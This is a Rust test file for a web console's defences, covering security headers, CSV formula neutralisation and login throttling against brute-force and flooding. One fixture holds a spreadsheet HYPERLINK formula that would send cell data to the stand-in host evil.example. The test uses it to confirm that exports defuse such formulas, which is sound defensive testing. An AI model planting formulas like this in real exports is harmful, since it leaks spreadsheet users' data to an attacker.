//! The console against abuse: security headers on every answer, spreadsheet formulas in
//! CSV exports neutralised, sign-in throttled per (user name, address) so that someone
//! hammering a name cannot keep its owner out.

use crate::support;

use std::net::{IpAddr, Ipv4Addr};
use std::num::NonZeroU32;

use beacon_console::ConsoleOptions;
use reqwest::header::{COOKIE, HeaderMap};
use reqwest::{Client, StatusCode};
use support::{PASSWORD, client, form, login, post_login, serve};

fn assert_secure_headers(what: &str, headers: &HeaderMap) {
    let header = |name: &str| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_else(|| panic!("{what}: no {name} header in {headers:?}"))
            .to_owned()
    };
    let policy = header("content-security-policy");
    for directive in ["default-src 'self'", "frame-ancestors 'none'"] {
        assert!(policy.contains(directive), "{what}: {policy}");
    }
    assert_eq!(header("x-content-type-options"), "nosniff", "{what}");
    assert_eq!(header("referrer-policy"), "no-referrer", "{what}");
    assert_eq!(header("cache-control"), "no-store", "{what}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_page_and_data_answer_carries_the_security_headers() {
    let served = serve(200, ConsoleOptions::default()).await;
    let client = client();
    let anonymous = served.get(&client, "/console/login", &[]).await;
    assert_secure_headers("login page", anonymous.headers());
    let refused = served
        .get(&client, "/console/api/v1/charts/activity", &[])
        .await;
    assert_eq!(refused.status(), StatusCode::UNAUTHORIZED);
    assert_secure_headers("401 of the data API", refused.headers());

    let session = login(&client, &served.base).await;
    let cookie = [(COOKIE, session.cookie.as_str())];
    for path in [
        "/console/overview",
        "/console/versions",
        "/console/api/v1/charts/activity",
        "/console/api/v1/filters",
        "/console/api/v1/openapi.json",
        "/console/api/v1/export/reports.csv",
    ] {
        let response = served.get(&client, path, &cookie).await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        assert_secure_headers(path, response.headers());
    }

    let created = client
        .post(format!("{}/console/tokens", served.base))
        .header(COOKIE, &session.cookie)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[("name", "script"), ("csrf", &session.csrf)]))
        .send()
        .await
        .expect("create token");
    assert_eq!(created.status(), StatusCode::CREATED);
    assert_secure_headers("the page showing a new token once", created.headers());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_cells_that_would_run_as_formulas_are_neutralised() {
    let served = serve(0, ConsoleOptions::default()).await;
    let today = chrono::Utc::now().date_naive();
    let mut report = beacon_seed::generate(1, today, 5)
        .next()
        .expect("one report");
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    report.os_name = Some(formula.to_owned());
    report.os_version = Some("@SUM(1+1)".to_owned());
    let day = report.day;
    served.store.insert(report).await.expect("insert");

    let client = client();
    let session = login(&client, &served.base).await;
    let path = format!("/console/api/v1/export/reports.csv?from={day}&to={day}");
    let csv = served
        .get(&client, &path, &[(COOKIE, session.cookie.as_str())])
        .await
        .text()
        .await
        .expect("csv");
    let row = csv.lines().nth(1).expect("one report row");
    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
    assert!(row.contains(&quoted), "{row}");
    assert!(row.contains(",'@SUM(1+1),"), "{row}");
    assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hammering_a_user_name_does_not_lock_out_its_owner_elsewhere() {
    let options = ConsoleOptions {
        logins_per_minute: NonZeroU32::MIN,
        login_burst: NonZeroU32::new(3).expect("three"),
        ..ConsoleOptions::default()
    };
    let served = serve(0, options).await;
    let attacker = client();
    let mut statuses = Vec::new();
    for _ in 0..5 {
        statuses.push(
            post_login(&attacker, &served.base, "wrong guess", true)
                .await
                .status(),
        );
    }
    assert_eq!(
        statuses.last(),
        Some(&StatusCode::TOO_MANY_REQUESTS),
        "{statuses:?}"
    );

    let elsewhere = Client::builder()
        .local_address(IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2)))
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client on 127.0.0.2");
    let owner = post_login(&elsewhere, &served.base, PASSWORD, true).await;
    assert_eq!(
        owner.status(),
        StatusCode::SEE_OTHER,
        "the owner at another address signs in at once"
    );
    let still = post_login(&attacker, &served.base, PASSWORD, true).await;
    assert_eq!(still.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(still.headers().contains_key("retry-after"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_login_flood_is_turned_away_instead_of_queued() {
    let plenty = NonZeroU32::new(10_000).expect("plenty");
    let options = ConsoleOptions {
        logins_per_minute: plenty,
        login_burst: plenty,
        logins_global_per_minute: plenty,
        ..ConsoleOptions::default()
    };
    let served = std::sync::Arc::new(serve(0, options).await);
    let attempts = (0..48).map(|_| {
        let served = std::sync::Arc::clone(&served);
        tokio::spawn(async move {
            let answer = post_login(&client(), &served.base, "wrong guess", true).await;
            let retry_after = answer.headers().contains_key("retry-after");
            (
                answer.status(),
                retry_after,
                answer.text().await.expect("page"),
            )
        })
    });
    let mut busy = 0;
    for attempt in attempts.collect::<Vec<_>>() {
        let (status, retry_after, page) = attempt.await.expect("join");
        if status == StatusCode::TOO_MANY_REQUESTS {
            assert!(retry_after, "a busy answer says when to retry");
            assert!(page.contains("being checked right now"), "{page}");
            busy += 1;
        } else {
            assert_eq!(status, StatusCode::UNAUTHORIZED);
        }
    }
    assert!(busy > 0, "48 parallel argon2 checks were all run at once");
    let owner = post_login(&client(), &served.base, PASSWORD, true).await;
    assert_eq!(
        owner.status(),
        StatusCode::SEE_OTHER,
        "the pool is free again"
    );
}
